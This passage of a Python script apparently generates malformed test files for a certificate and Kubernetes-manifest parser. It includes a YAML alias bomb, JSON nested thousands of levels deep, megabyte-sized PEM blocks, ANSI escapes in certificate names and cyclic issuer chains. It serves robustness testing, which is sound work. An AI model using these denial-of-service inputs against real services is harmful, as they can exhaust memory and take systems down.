            {"tls.crt": crt},
            metadata={"name": "x", "annotations": {"certwright.dev/renew-before": evil, evil: evil}},
        ),
        "kind": {"apiVersion": "v1", "kind": evil, "metadata": {"name": "x"}},
        "list-of-lists": {"apiVersion": "v1", "kind": "List", "items": [{"kind": "List", "items": [[]]}]},
    }.items():
        yield f"manifest-{what}.json", json.dumps(value, ensure_ascii=False).encode()
    yield "manifest-deep.json", b"[" * 5_000 + b"]" * 5_000
    yield "manifest-deep-object.json", b'{"apiVersion":' * 3_000
    yield "manifest-cut-off.json", b'{"apiVersion":"v1","kind":"Secret","data":{"tls.crt":"'
    yield "manifest-huge-number.json", b'{"apiVersion":"v1","kind":"List","items":[' + b"9" * 5_000 + b"]}"
    rows = ["apiVersion: v1", "a: &a [x]"]
    for above, below in zip("abcdefgh", "bcdefghi"):
        rows.append(f"{below}: &{below} [{','.join([f'*{above}'] * 9)}]")
    yield "manifest-alias-bomb.yaml", "\n".join(rows).encode()
    yield "manifest-many-documents.yaml", b"apiVersion: v1\n---\n" * 2_000
    yield "manifest-tabs.yaml", b"apiVersion: v1\n\tkind: \x1b[31m\n"
    yield "manifest-bad-utf8.yaml", b"apiVersion: v1\nkind: \xff\xfe\n"


def small():
    for group in [
        texts, subjects, general_names, dates, serials, keys, structures, pem_files, private_keys, manifests,
        stores, requests,
    ]:
        yield from group()


def big():
    """Too large to keep; each is one thought taken to its end."""
    mebibyte = 1 << 20
    yield "big-cn.pem", pem(certificate(subject=name((CN, utf8("\x1b[31m" + "a" * mebibyte)))))
    yield "big-san.pem", pem(certificate(extensions=(san(*(dns(f"{n}.example") for n in range(50_000))),)))
    yield "big-subject.pem", pem(certificate(subject=name(*((OU, utf8("unit")) for _ in range(50_000)))))
    yield "big-serial.pem", pem(certificate(serial=integer(b"\x11" * mebibyte)))
    yield "big-extensions.pem", pem(
        certificate(extensions=[(f"1.2.3.{n}", False, tlv(5)) for n in range(20_000)])
    )
    deep = b""
    for _ in range(20_000):
        deep = seq(deep)
    yield "big-deep.pem", pem(deep)
    yield "big-deep-name.pem", pem(certificate(extensions=(san(tlv(0xA4, deep)),)))
    yield "big-deep-value.pem", pem(certificate(subject=name((CN, deep))))
    begin = b"-----BEGIN CERTIFICATE-----\n"
    yield "big-begin-bomb.pem", begin * (mebibyte // len(begin))
    yield "big-end-bomb.pem", b"-----END CERTIFICATE-----\n" * (mebibyte // 26)
    yield "big-empty-blocks.pem", (begin + b"-----END CERTIFICATE-----\n") * (mebibyte // 54)
    yield "big-key-bomb.pem", b"-----BEGIN PRIVATE KEY-----\n" * (mebibyte // 28)
    yield "big-one-line.pem", begin + b"A" * mebibyte + b"\n-----END CERTIFICATE-----\n"
    yield "big-short-lines.pem", begin + b"A\n" * (mebibyte // 2) + b"-----END CERTIFICATE-----\n"
    yield "big-headers.pem", begin + b"a:b\n" * (mebibyte // 4) + b"-----END CERTIFICATE-----\n"
    yield "big-newlines.pem", b"\n" * mebibyte
    yield "big-returns.pem", b"\r" * mebibyte
    yield "big-dashes.pem", b"-" * mebibyte
    yield "big-marks.pem", "\ufeff".encode() * (mebibyte // 3)
    yield "big-bad-utf8.pem", b"\xff" * mebibyte
    yield "big-chain.pem", pem(certificate()) * 1_000
    ladder = [certificate(subject=ring_name(n), issuer=ring_name(n + 1)) for n in range(1_500)]
    yield "big-ladder.pem", b"".join(map(pem, reversed(ladder)))
    twins = [certificate(subject=ring_name(n % 2), issuer=ring_name((n + 1) % 2)) for n in range(1_500)]
    yield "big-cross-signed.pem", b"".join(map(pem, twins))
    yield "big-rsa.pem", pem(
        certificate(
            key=seq(
                seq(oid("1.2.840.113549.1.1.1"), tlv(5)),
                bits(seq(integer(b"\x00" + b"\xb5" * 100_000), integer(b"\x01" * 100_000))),
            )
        )
    )
    long_text = b"apiVersion: v1\na: &a " + b"x" * 10_000 + b"\nb:\n" + b"- *a\n" * 15_000
    yield "big-alias-of-a-long-text.yaml", long_text
    yield "big-base64-of-nothing.pem", begin + b"=" * mebibyte + b"\n-----END CERTIFICATE-----\n"


def main(arguments):
    if arguments[:1] == ["--big"]:
        folder, files = Path(arguments[1]), big()
    elif arguments:
        folder, files = Path(arguments[0]), small()
    else:
        folder, files = FILES, small()
        shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir(parents=True, exist_ok=True)
    written = {}
    for file, content in files:
        assert file not in written, f"{file} is made twice"
        written[file] = len(content)
        (folder / file).write_bytes(content)
    print(f"{len(written)} files, {sum(written.values())} bytes in {folder}")


if __name__ == "__main__":
    main(sys.argv[1:])
